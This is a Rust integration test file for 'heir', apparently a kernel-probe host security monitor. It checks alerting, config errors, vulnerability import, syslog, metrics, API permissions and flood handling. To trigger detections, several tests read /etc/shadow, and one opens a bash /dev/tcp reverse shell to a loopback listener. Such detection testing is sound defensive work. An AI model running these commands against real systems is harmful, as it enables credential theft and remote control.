//! The `heir` binary as users and their scripts run it.

use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use heir_testkit::{Lines, Reap, exit_within, poll};

const HEIR: &str = env!("CARGO_BIN_EXE_heir");

/// How long the agent or the monitor may take to load its probes and say so.
const STARTUP: Duration = Duration::from_secs(60);

/// Accepts one connection on `listener`, which must come within `within`.
fn accept_within(listener: &std::net::TcpListener, within: Duration) -> std::net::TcpStream {
    listener.set_nonblocking(true).unwrap();
    poll(
        "a connection to the test's listener",
        within,
        || match listener.accept() {
            Ok((conn, _)) => Some(conn),
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => None,
            Err(e) => panic!("accept: {e}"),
        },
    )
}

fn is_root() -> bool {
    // SAFETY: geteuid has no preconditions.
    unsafe { libc::geteuid() == 0 }
}

/// Starts `heir agent` with `dir` as its data directory and `extra` arguments, and waits for
/// its `ready` line.
fn agent(dir: &std::path::Path, extra: &[&std::ffi::OsStr]) -> Reap {
    let mut agent = Reap(
        Command::new(HEIR)
            .args(["agent", "--data-dir"])
            .arg(dir)
            .args(extra)
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    heir_testkit::ready(&mut agent.0, STARTUP);
    agent
}

/// `heir monitor --json` (with `config`, if given), once its probes are attached: the
/// process, and its stdout lines as they come.
fn monitor(config: Option<&std::path::Path>) -> (Reap, std::sync::mpsc::Receiver<String>) {
    let mut cmd = Command::new(HEIR);
    cmd.args(["monitor", "--json"]);
    if let Some(c) = config {
        cmd.arg("--config").arg(c);
    }
    let mut monitor = Reap(
        cmd.stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let err = Lines::new(monitor.0.stderr.take().unwrap(), "heir monitor's stderr");
    let first = err.expect_within(STARTUP);
    assert!(first.contains("probes attached"), "{first}");
    err.drain();
    let out = Lines::new(monitor.0.stdout.take().unwrap(), "heir monitor's stdout");
    let lines = out.into_receiver();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for line in lines {
            if tx.send(line.unwrap()).is_err() {
                break;
            }
        }
    });
    (monitor, rx)
}

#[test]
fn monitor_json_shows_real_activity() {
    assert!(
        is_root(),
        "NOT RUN: `heir monitor` needs root (CI runs the tests as root)"
    );
    let (_monitor, rx) = monitor(None);

    let cat = Command::new("cat")
        .arg("/etc/shadow")
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let pid = cat.id();
    cat.wait_with_output().unwrap();

    let deadline = Instant::now() + Duration::from_secs(10);
    let (mut saw_exec, mut saw_open) = (false, false);
    while !(saw_exec && saw_open) {
        let line = rx
            .recv_timeout(deadline.saturating_duration_since(Instant::now()))
            .expect("monitor printed the cat's exec and open within 10 s");
        let v: serde_json::Value = serde_json::from_str(&line).expect("every stdout line is JSON");
        if v["pid"] != pid {
            continue;
        }
        match v["kind"].as_str() {
            Some("exec") => {
                assert_eq!(v["argv"], serde_json::json!(["cat", "/etc/shadow"]));
                assert!(v["ts"].as_str().unwrap().ends_with('Z'));
                saw_exec = true;
            }
            Some("open") if v["path"] == "/etc/shadow" => {
                assert_eq!(v["comm"], "cat");
                assert_eq!(v["uid"], 0);
                saw_open = true;
            }
            _ => {}
        }
    }
}

/// `[sensor] netns` scopes the syscall probes in the kernel: a process in the listed
/// namespace is reported, the same program run outside it is not, and a namespace that does
/// not exist is named in one sentence.
#[test]
fn a_sensor_scoped_to_a_network_namespace_reports_only_that_namespace() {
    assert!(
        is_root(),
        "NOT RUN: `heir monitor` needs root (CI runs the tests as root)"
    );
    let ns = format!("hx-scope-{}", std::process::id());
    struct Netns(String);
    impl Drop for Netns {
        fn drop(&mut self) {
            let _ = Command::new("ip").args(["netns", "del", &self.0]).status();
        }
    }
    assert!(
        Command::new("ip")
            .args(["netns", "add", &ns])
            .status()
            .unwrap()
            .success()
    );
    let _ns = Netns(ns.clone());
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("heir.toml");
    std::fs::write(
        &config,
        format!("[sensor]\nnetns = [\"/var/run/netns/{ns}\"]\n"),
    )
    .unwrap();
    let (_monitor, rx) = monitor(Some(&config));
    let marker = format!("scope-marker-{}", std::process::id());
    let outside = Command::new("echo")
        .arg(format!("{marker}-outside"))
        .output()
        .unwrap();
    assert!(outside.status.success());
    let inside = Command::new("ip")
        .args(["netns", "exec", &ns, "echo"])
        .arg(format!("{marker}-inside"))
        .output()
        .unwrap();
    assert!(inside.status.success());

    let deadline = Instant::now() + Duration::from_secs(10);
    let mut seen = Vec::new();
    // Everything up to the inside exec, and a second more for a late outside record.
    let mut until = deadline;
    while let Ok(line) = rx.recv_timeout(until.saturating_duration_since(Instant::now())) {
        if line.contains(&marker) {
            seen.push(line.clone());
            if line.contains("-inside") {
                until = Instant::now() + Duration::from_secs(1);
            }
        }
    }
    assert!(
        seen.iter().any(|l| l.contains(&format!("{marker}-inside"))),
        "the exec inside the namespace was not reported: {seen:?}"
    );
    assert!(
        !seen
            .iter()
            .any(|l| l.contains(&format!("{marker}-outside"))),
        "an exec outside the namespace was reported: {seen:?}"
    );

    std::fs::write(
        &config,
        "[sensor]\nnetns = [\"/var/run/netns/hx-no-such-ns\"]\n",
    )
    .unwrap();
    let out = Command::new(HEIR)
        .args(["monitor", "--json", "--config"])
        .arg(&config)
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("hx-no-such-ns"), "{err}");
}

#[test]
fn agent_prints_ready_once_attached() {
    assert!(
        is_root(),
        "NOT RUN: `heir agent` needs root (CI runs the tests as root)"
    );
    let dir = tempfile::tempdir().unwrap();
    let _agent = agent(dir.path(), &[]);
    assert!(dir.path().exists());
}

#[test]
fn a_normal_user_gets_one_clear_sentence() {
    assert!(
        is_root(),
        "NOT RUN: this test switches to an unprivileged user, which needs root"
    );
    let out = Command::new("setpriv")
        .args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            HEIR,
            "monitor",
        ])
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("needs root"), "{err}");
    assert_eq!(
        err.trim().lines().count(),
        1,
        "one sentence, no backtrace: {err}"
    );
    assert!(out.stdout.is_empty());
}

#[test]
fn unknown_config_keys_are_named_with_their_line() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("heir.toml");
    std::fs::write(&cfg, "[sensor]\nring_bytes = 4096\nwatch_paths = []\n").unwrap();
    let out = Command::new(HEIR)
        .arg("agent")
        .arg("--config")
        .arg(&cfg)
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("watch_paths") && err.contains("line 3"),
        "{err}"
    );
    assert!(err.contains("heir.toml"), "{err}");
}

#[test]
fn replay_reports_bad_lines_by_number_and_keeps_the_rest() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("events.jsonl");
    let good = r#"{"ts":"2026-01-01T00:00:00Z","pid":5,"tid":5,"ppid":1,"uid":0,"euid":0,"gid":0,"comm":"cat","kind":"open","path":"/etc/shadow","flags":0,"ret":3}"#;
    std::fs::write(&file, format!("{good}\n{{\"kind\": \"open\"\n{good}\n")).unwrap();
    let out = Command::new(HEIR)
        .arg("replay")
        .arg(&file)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(err.contains("events.jsonl:2:"), "{err}");
    assert!(err.contains("2 events"), "{err}");
}

const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../rama/tests/fixtures");

#[test]
fn imported_knowledge_raises_a_device_score_and_persists() {
    let dir = tempfile::tempdir().unwrap();
    let state = |cmd: &mut Command| {
        cmd.arg("--data-dir")
            .arg(dir.path())
            .arg("--registry")
            .arg(format!("{FIXTURES}/devices.toml"));
    };
    let score = || {
        let mut c = Command::new(HEIR);
        c.args(["rama", "--json", "--device", "pump-icu-3"]);
        state(&mut c);
        let out = c.output().unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        v["explanation"]["score"]["value"]
            .as_f64()
            .unwrap_or_else(|| panic!("{v}"))
    };
    let before = score();
    for f in ["nvd.json", "kev.csv", "infusia-300.cdx.json"] {
        let mut c = Command::new(HEIR);
        c.args(["vuln", "import"]).arg(format!("{FIXTURES}/{f}"));
        state(&mut c);
        let out = c.output().unwrap();
        assert!(
            out.status.success(),
            "{f}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let after = score();
    assert!(after > before, "score {before} → {after}");

    let bad = dir.path().join("broken-osv.json");
    std::fs::write(&bad, r#"{"id": "OSV-1", "affected": "not a list"}"#).unwrap();
    let mut c = Command::new(HEIR);
    c.args(["vuln", "import"]).arg(&bad);
    state(&mut c);
    let out = c.output().unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("broken-osv.json"), "{err}");
    assert_eq!(score(), after, "a failed import changes nothing");
}

#[test]
fn the_agent_alerts_on_real_attacks_and_keeps_the_alerts() {
    assert!(
        is_root(),
        "NOT RUN: `heir agent` needs root (CI runs the tests as root)"
    );
    let dir = tempfile::tempdir().unwrap();
    let alerts_file = dir.path().join("alerts.jsonl");
    let mut agent = agent(dir.path(), &["--alerts".as_ref(), alerts_file.as_os_str()]);

    // Benign first: routine admin commands.
    for cmd in [["id", ""], ["ls", "/etc"], ["uname", "-a"]] {
        Command::new(cmd[0])
            .args(cmd[1..].iter().filter(|a| !a.is_empty()))
            .output()
            .unwrap();
    }
    // A shadow read by an interactive tool, and a bash reverse shell to a local listener.
    Command::new("cat").arg("/etc/shadow").output().unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let shell = Command::new("bash")
        .arg("-c")
        .arg(format!(
            "exec 3<>/dev/tcp/127.0.0.1/{port}; bash -i <&3 >&3 2>&3"
        ))
        .spawn()
        .unwrap();
    let mut shell = Reap(shell);
    drop(accept_within(&listener, Duration::from_secs(10)));
    poll("the reverse shell to end", Duration::from_secs(10), || {
        shell.0.try_wait().unwrap()
    });

    let deadline = Instant::now() + Duration::from_secs(15);
    let wanted = ["credential_access", "reverse_shell"];
    let mut seen: Vec<serde_json::Value> = Vec::new();
    while Instant::now() < deadline {
        seen = heir_testkit::alert_lines(&alerts_file);
        if wanted
            .iter()
            .all(|w| seen.iter().any(|a| a["category"] == *w))
        {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    for w in wanted {
        let a = seen
            .iter()
            .find(|a| a["category"] == w)
            .unwrap_or_else(|| panic!("no {w} alert in {seen:?}"));
        for field in [
            "ts",
            "id",
            "rule",
            "title",
            "severity",
            "confidence",
            "attack",
            "owasp_iot",
        ] {
            assert!(a.get(field).is_some(), "{w} alert lacks {field}: {a}");
        }
    }
    for benign in ["id", "ls", "uname"] {
        assert!(
            !seen.iter().any(|a| a["comm"] == benign),
            "routine `{benign}` raised an alert: {seen:?}"
        );
    }

    // While it runs, `heir alerts` asks the agent through its API. The store and the alert
    // file are separate sinks, each on its own queue: poll until the store has caught up.
    let ask = || -> Vec<serde_json::Value> {
        let out = Command::new(HEIR)
            .args(["alerts", "--json", "--data-dir"])
            .arg(dir.path())
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    };
    let deadline = Instant::now() + Duration::from_secs(10);
    let via_api = loop {
        let v = ask();
        let complete = wanted.iter().all(|w| v.iter().any(|a| a["category"] == *w));
        if complete || Instant::now() > deadline {
            break v;
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    for w in wanted {
        assert!(
            via_api.iter().any(|a| a["category"] == w),
            "API lacks {w}: {via_api:?}"
        );
    }

    // SIGTERM: the agent stops cleanly and the store has every alert it wrote.
    // SAFETY: signalling our own child.
    unsafe { libc::kill(agent.0.id() as i32, libc::SIGTERM) };
    let status = exit_within(
        &mut agent.0,
        Duration::from_secs(30),
        "the agent, after SIGTERM,",
    );
    assert!(status.success(), "agent exit: {status:?}");
    let out = Command::new(HEIR)
        .args(["alerts", "--json", "--data-dir"])
        .arg(dir.path())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stored = String::from_utf8_lossy(&out.stdout).lines().count();
    let written = std::fs::read_to_string(&alerts_file)
        .unwrap()
        .lines()
        .count();
    assert!(written >= seen.len());
    assert_eq!(stored, written, "store and alert file agree");
}

/// A tmux session that is killed when the test ends, however it ends.
struct Tmux(String);

impl Tmux {
    fn screen(&self) -> String {
        let out = Command::new("tmux")
            .args(["capture-pane", "-p", "-t", &self.0])
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    fn wait_for(&self, text: &str) -> String {
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            let screen = self.screen();
            if screen.contains(text) {
                return screen;
            }
            assert!(
                Instant::now() < deadline,
                "no `{text}` on screen:\n{screen}"
            );
            std::thread::sleep(Duration::from_millis(100));
        }
    }

    fn keys(&self, keys: &str) {
        Command::new("tmux")
            .args(["send-keys", "-t", &self.0, keys])
            .status()
            .unwrap();
    }

    fn alive(&self) -> bool {
        Command::new("tmux")
            .args(["has-session", "-t", &self.0])
            .stderr(Stdio::null())
            .status()
            .unwrap()
            .success()
    }
}

impl Drop for Tmux {
    fn drop(&mut self) {
        let _ = Command::new("tmux")
            .args(["kill-session", "-t", &self.0])
            .status();
    }
}

#[test]
fn heir_up_runs_the_terminal_ui_in_a_real_terminal() {
    assert!(
        is_root(),
        "NOT RUN: `heir up` needs root (CI runs the tests as root)"
    );
    let dir = tempfile::tempdir().unwrap();
    let session = Tmux(format!("heir-up-{}", std::process::id()));
    let status = Command::new("tmux")
        .args([
            "new-session",
            "-d",
            "-s",
            &session.0,
            "-x",
            "80",
            "-y",
            "24",
        ])
        .arg(format!("{HEIR} up --data-dir {}", dir.path().display()))
        .status()
        .unwrap();
    assert!(status.success());
    let screen = session.wait_for("Hospital RAMA");
    assert!(screen.contains("Sensor health"), "{screen}");
    // The sensor is live: the overview shows its counters once the first status arrives.
    session.wait_for("emitted");
    session.keys("3");
    session.wait_for("Alerts");
    session.keys("?");
    session.wait_for("help");
    session.keys("Escape");
    session.keys("q");
    let deadline = Instant::now() + Duration::from_secs(20);
    while session.alive() {
        assert!(
            Instant::now() < deadline,
            "heir up did not exit on q:\n{}",
            session.screen()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(
        dir.path().join("heir.redb").exists(),
        "the agent ran and kept its store"
    );
    assert!(
        !dir.path().join("api.sock").exists(),
        "the API socket is removed on exit"
    );
}

#[test]
fn alerts_reach_syslog_and_prometheus_metrics() {
    assert!(
        is_root(),
        "NOT RUN: `heir agent` needs root (CI runs the tests as root)"
    );
    let dir = tempfile::tempdir().unwrap();
    let siem = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    siem.set_read_timeout(Some(Duration::from_secs(15)))
        .unwrap();
    let cfg = dir.path().join("heir.toml");
    std::fs::write(
        &cfg,
        format!(
            "metrics_listen = \"127.0.0.1:0\"\nsyslog = \"{}\"\n",
            siem.local_addr().unwrap()
        ),
    )
    .unwrap();
    let mut agent = Reap(
        Command::new(HEIR)
            .args(["agent", "--config"])
            .arg(&cfg)
            .arg("--data-dir")
            .arg(dir.path())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let err = Lines::new(agent.0.stderr.take().unwrap(), "heir agent's stderr");
    let metrics_addr = err
        .until("the metrics address", STARTUP, |l| {
            l.starts_with("heir: metrics on http://")
        })
        .trim_start_matches("heir: metrics on http://")
        .trim_end_matches("/metrics")
        .to_owned();
    err.drain();
    heir_testkit::ready(&mut agent.0, STARTUP);

    Command::new("cat").arg("/etc/shadow").output().unwrap();
    let mut buf = [0u8; 65536];
    let msg = loop {
        let (n, _) = siem
            .recv_from(&mut buf)
            .expect("a syslog datagram within 15 s");
        let m = String::from_utf8_lossy(&buf[..n]).into_owned();
        if m.contains("credential_access") {
            break m;
        }
    };
    // local0 (16) * 8 + err (3, a high alert), RFC 5424 version 1, app heir, msgid = category.
    assert!(msg.starts_with("<131>1 "), "{msg}");
    let fields: Vec<&str> = msg.splitn(8, ' ').collect();
    assert_eq!(fields[3], "heir", "{msg}");
    assert_eq!(fields[5], "credential_access", "{msg}");
    let v: serde_json::Value = serde_json::from_str(fields[7]).unwrap();
    assert_eq!(v["category"], "credential_access");

    let scrape = || {
        use std::io::{Read, Write};
        let mut s = std::net::TcpStream::connect(&metrics_addr).unwrap();
        s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        write!(
            s,
            "GET /metrics HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
        )
        .unwrap();
        let mut body = String::new();
        s.read_to_string(&mut body).unwrap();
        body
    };
    let deadline = Instant::now() + Duration::from_secs(5);
    let body = loop {
        let b = scrape();
        if b.lines()
            .any(|l| l.starts_with("heir_events_total{kind=\"exec\"}") && !l.ends_with(" 0"))
        {
            break b;
        }
        assert!(Instant::now() < deadline, "no exec events in metrics:\n{b}");
        std::thread::sleep(Duration::from_millis(200));
    };
    assert!(body.starts_with("HTTP/1.1 200"), "{body}");
    assert!(
        body.contains("# TYPE heir_events_lost_total counter"),
        "{body}"
    );
    let alerts = body
        .lines()
        .find(|l| l.starts_with("heir_alerts_total{category=\"credential_access\"}"))
        .unwrap_or_else(|| panic!("{body}"));
    assert!(!alerts.ends_with(" 0"), "{alerts}");
    assert!(body.contains("heir_devices{band=\"low\"}"), "{body}");
}

#[test]
fn acknowledgements_made_through_the_api_survive_kill_9() {
    assert!(
        is_root(),
        "NOT RUN: `heir agent` needs root (CI runs the tests as root)"
    );
    let dir = tempfile::tempdir().unwrap();
    let mut agent = agent(dir.path(), &[]);
    let sock = dir.path().join("api.sock");
    let api = |method: &str, path: &str| -> serde_json::Value {
        let out = Command::new("curl")
            .args(["-s", "--fail-with-body", "-X", method, "--unix-socket"])
            .arg(&sock)
            .arg(format!("http://heir{path}"))
            .output()
            .expect("curl");
        assert!(
            out.status.success(),
            "{method} {path}: {}",
            String::from_utf8_lossy(&out.stdout)
        );
        serde_json::from_slice(&out.stdout).unwrap()
    };
    // Raise alerts while the agent writes events, then acknowledge one through the API.
    for _ in 0..3 {
        Command::new("cat").arg("/etc/shadow").output().unwrap();
    }
    let deadline = Instant::now() + Duration::from_secs(15);
    let seq = loop {
        let alerts = api("GET", "/v1/alerts");
        if let Some(a) = alerts.as_array().and_then(|a| a.first()) {
            break a["seq"].as_u64().unwrap();
        }
        assert!(Instant::now() < deadline, "no alert stored");
        std::thread::sleep(Duration::from_millis(100));
    };
    let acked = api("POST", &format!("/v1/alerts/{seq}/ack"));
    assert!(acked["acknowledged"].is_object(), "{acked}");
    // More writes in flight, then kill -9.
    for _ in 0..20 {
        Command::new("ls").arg("/etc").output().unwrap();
    }
    // SAFETY: signalling our own child.
    unsafe { libc::kill(agent.0.id() as i32, libc::SIGKILL) };
    agent.0.wait().unwrap();

    let out = Command::new(HEIR)
        .args(["alerts", "--data-dir"])
        .arg(dir.path())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    let line = text
        .lines()
        .find(|l| l.starts_with(&format!("#{seq} ")))
        .unwrap_or_else(|| panic!("alert {seq} lost after kill -9:\n{text}"));
    assert!(
        line.contains("(acknowledged)"),
        "acknowledgement lost: {line}"
    );
}

/// The agent's state is for root and group heir only, and the API lets an operator change
/// things while any other user who can open the socket may only read: a real unprivileged
/// process (uid 65534 in the socket's group) tries, and is refused.
#[test]
fn state_is_private_and_only_operators_change_it() {
    assert!(
        is_root(),
        "NOT RUN: `heir agent` needs root (CI runs the tests as root)"
    );
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let dir = tempfile::tempdir().unwrap();
    // A file an operator left open to everyone before the agent started.
    let left_open = dir.path().join("notes.txt");
    std::fs::write(&left_open, b"x").unwrap();
    std::fs::set_permissions(&left_open, std::fs::Permissions::from_mode(0o666)).unwrap();
    let _agent = agent(dir.path(), &[]);
    let sock = dir.path().join("api.sock");
    let gid = std::fs::metadata(&sock).unwrap().gid().to_string();
    // (status, body) of a request, as root or as uid 65534 in the socket's group.
    let api = |as_root: bool, method: &str, path: &str| -> (String, String) {
        let mut cmd = if as_root {
            Command::new("curl")
        } else {
            let mut c = Command::new("setpriv");
            c.args(["--reuid=65534", "--regid", &gid, "--clear-groups", "curl"]);
            c
        };
        let out = cmd
            .args(["-s", "-m", "10", "-w", "\n%{http_code}", "-X", method])
            .args(["-H", "content-type: application/json", "--unix-socket"])
            .arg(&sock)
            .args(if method == "POST" && path == "/v1/block" {
                vec!["-d", r#"{"addr":"203.0.113.7","ttl_secs":60}"#]
            } else {
                vec![]
            })
            .arg(format!("http://heir{path}"))
            .output()
            .expect("curl");
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        let (body, code) = text.rsplit_once('\n').unwrap_or(("", &text));
        (code.to_owned(), body.to_owned())
    };
    // Raise an alert and wait until it is stored.
    let deadline = Instant::now() + Duration::from_secs(15);
    let seq = loop {
        Command::new("cat").arg("/etc/shadow").output().unwrap();
        let (code, body) = api(true, "GET", "/v1/alerts");
        assert_eq!(code, "200", "{body}");
        let alerts: serde_json::Value = serde_json::from_str(&body).unwrap();
        if let Some(a) = alerts.as_array().and_then(|a| a.first()) {
            break a["seq"].as_u64().unwrap();
        }
        assert!(Instant::now() < deadline, "no alert stored");
        std::thread::sleep(Duration::from_millis(200));
    };

    // The reader reads...
    let (code, body) = api(false, "GET", "/v1/status");
    assert_eq!(code, "200", "a reader may read: {body}");
    let (code, _) = api(false, "GET", "/v1/alerts?limit=5");
    assert_eq!(code, "200");
    // ...and changes nothing.
    for path in [format!("/v1/alerts/{seq}/ack"), "/v1/block".to_owned()] {
        let (code, body) = api(false, "POST", &path);
        assert_eq!(code, "403", "POST {path} by a reader: {body}");
        assert!(
            body.contains("forbidden") && body.contains("uid 65534"),
            "{body}"
        );
    }
    let (_, body) = api(true, "GET", "/v1/alerts?limit=50");
    assert!(
        !body.contains("acknowledged"),
        "a refused acknowledgement left a trace: {body}"
    );
    // Root is an operator, and the acknowledgement names it.
    let (code, body) = api(true, "POST", &format!("/v1/alerts/{seq}/ack"));
    assert_eq!(code, "200", "{body}");
    assert!(body.contains("root (uid 0)"), "{body}");

    // Nothing in the data directory is open to others or writable by the group.
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o7777;
    assert_eq!(mode(dir.path()), 0o2750);
    assert_eq!(mode(&left_open), 0o640, "the open file was narrowed");
    let mut files = 0;
    for e in std::fs::read_dir(dir.path()).unwrap() {
        let p = e.unwrap().path();
        if p.is_file() {
            files += 1;
            assert_eq!(mode(&p) & 0o027, 0, "{}: {:o}", p.display(), mode(&p));
        }
    }
    assert!(files >= 2, "the store and the alerts file exist");
}

/// A flood the ring cannot carry: the real agent stays up, every open the generator made is
/// counted as kept or lost, the metrics say how many were lost, and paced opens afterwards
/// arrive whole. (`cargo xtask flood` runs the same for 60 s with the default ring.)
#[test]
fn a_flood_is_counted_and_the_agent_recovers() {
    assert!(
        is_root(),
        "NOT RUN: `heir bench flood` loads the probes and needs root (CI runs the tests as root)"
    );
    let mut flood = Reap(
        Command::new(HEIR)
            .args(["bench", "flood", "--seconds", "4", "--generators", "1"])
            .args(["--ring-bytes", "262144"])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let out = Lines::new(flood.0.stdout.take().unwrap(), "heir bench flood's stdout");
    let err = Lines::new(flood.0.stderr.take().unwrap(), "heir bench flood's stderr");
    let status = exit_within(&mut flood.0, Duration::from_secs(180), "heir bench flood");
    let text = out.rest(Duration::from_secs(5)).join("\n");
    let errors = err.rest(Duration::from_secs(5)).join("\n");
    assert!(status.success(), "{text}\n{errors}");
    eprintln!("{text}");
    // "kernel: N open events kept (...), M lost to a full ring (...)"
    let kernel = text
        .lines()
        .find(|l| l.starts_with("kernel: "))
        .unwrap_or_else(|| panic!("no kernel line: {text}"));
    let lost: u64 = kernel
        .split_once("), ")
        .and_then(|(_, r)| r.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no lost count: {kernel}"));
    assert!(
        lost > 0,
        "a 256 KiB ring under a flood lost nothing: {text}"
    );
    assert!(
        text.contains("0 loss after"),
        "the agent did not return to 0 loss: {text}"
    );
}
